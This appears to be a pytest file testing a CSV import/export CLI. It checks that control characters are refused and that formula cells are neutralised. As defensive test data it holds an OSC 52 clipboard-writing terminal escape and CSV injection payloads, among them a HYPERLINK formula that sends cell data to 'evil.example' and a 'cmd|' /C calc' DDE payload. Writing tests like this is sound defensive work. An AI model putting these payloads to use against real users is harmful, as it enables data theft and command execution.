"""Untrusted text through the CLI: CSV import refuses control characters (line and column named),
export neutralises formulas and never prints a raw escape, every printed line is plain text."""

from __future__ import annotations

import csv
import io

import pytest

from .cli import ESC, no_raw_control, run

OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # "write this to the clipboard"
FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")


def test_osc52_in_a_name_is_refused_with_line_and_column(db_url, tmp_path):
    p = tmp_path / "companies.csv"
    p.write_text(f"name,nip\nAlfa,5265877635\nEvil{OSC52}Corp,7762811692\n", encoding="utf-8")
    r = run("import", "companies", str(p), db=db_url)
    assert r.returncode == 2
    assert b"line 3, column name" in r.stderr and b"U+001B" in r.stderr
    assert no_raw_control(r.stderr) and b"Traceback" not in r.stderr
    assert run("export", "companies", db=db_url).stdout.count(b"\n") == 1  # nothing imported


def test_formula_cells_import_and_export_neutralised(db_url, tmp_path):
    p = tmp_path / "companies.csv"
    rows = [("name", "nip", "address", "notes"),
            (FORMULAS[0], "5265877635", FORMULAS[1], FORMULAS[2]),
            ("Beta", "7762811692", "\tTabbed", FORMULAS[3])]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    p.write_text(buf.getvalue(), encoding="utf-8")
    r = run("import", "companies", str(p), db=db_url)
    assert r.returncode == 0, r.stderr
    out = run("export", "companies", db=db_url)
    assert out.returncode == 0 and ESC not in out.stdout
    cells = [c for row in csv.reader(io.StringIO(out.stdout.decode())) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULAS[0] in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


def test_export_of_old_data_with_escapes_prints_none(db_url, tmp_path):
    """A database written before the rule (or by another tool) may hold escapes: export shows them."""
    from sqlalchemy import text

    from ksef_tui.store.engine import open_database

    run("import", "companies", "-", db=db_url, stdin=b"name,nip\nAlfa,5265877635\n")
    db = open_database(db_url)
    with db.engine.begin() as conn:
        conn.execute(text("UPDATE company SET name = :n, notes = :notes"),
                     {"n": f"Evil{OSC52}\x1b[2J\x9b31m", "notes": "=cmd\x1b]2;title\x07"})
    db.dispose()
    for what in ("companies", "users"):
        out = run("export", what, db=db_url)
        assert out.returncode == 0 and no_raw_control(out.stdout)
    out = run("export", "companies", db=db_url).stdout.decode()
    assert "Evil␛]52;c;ZWNobyBwd25lZA==␇␛[2J\ufffd31m" in out and "'=cmd␛]2;title␇" in out


@pytest.mark.parametrize(("content", "expected"), [
    (b"name,nip,notes\nAlfa,5265877635,ok\nBeta,7762811692," + b"x" * 131_073 + b"\n",
     b"line 3, column -: A field is longer than 131,072 characters."),
    (b"name,nip\nAlfa,5265877635\nBe\x00ta,7762811692\n", b"line 3, column name: The text holds a control character (U+0000) at character 3"),
    (b"name,nip\nAlfa,5265877635\n" + "Zażółć,7762811692\n".encode("cp1250"), b"line 3, column -: The file is not UTF-8 text"),
    (b"name,nip,notes\nAlfa,5265877635,\"line one\nline two\"\nBeta,1234567890,\n", b"line 4, column nip"),
], ids=["field-too-long", "nul", "not-utf8", "multiline-record"])
def test_unreadable_lines_are_named(db_url, tmp_path, content, expected):
    p = tmp_path / "bad.csv"
    p.write_bytes(content)
    r = run("import", "companies", str(p), db=db_url)
    assert r.returncode == 2 and expected in r.stderr, r.stderr
    assert b"Traceback" not in r.stderr and b"Error" not in r.stderr


def test_duplicates_across_batches_are_named(ctx, monkeypatch):
    from ksef_tui.errors import ImportFailed
    from ksef_tui.services import csv_io

    monkeypatch.setattr(csv_io, "BATCH", 2)
    ctx.csv.import_companies(ctx.actor, b"name,nip\nOld,3755747347\n")
    data = b"name,nip\nA,5265877635\nB,7762811692\nC,526-587-76-35\nD,3755747347\n"
    with pytest.raises(ImportFailed) as e:
        ctx.csv.import_companies(ctx.actor, data)
    assert [str(p) for p in e.value.problems] == [
        "line 4, column nip: NIP 5265877635 is also on line 2",
        "line 5, column nip: A company with NIP 3755747347 already exists."]
    assert ctx.companies.count(ctx.actor) == 1
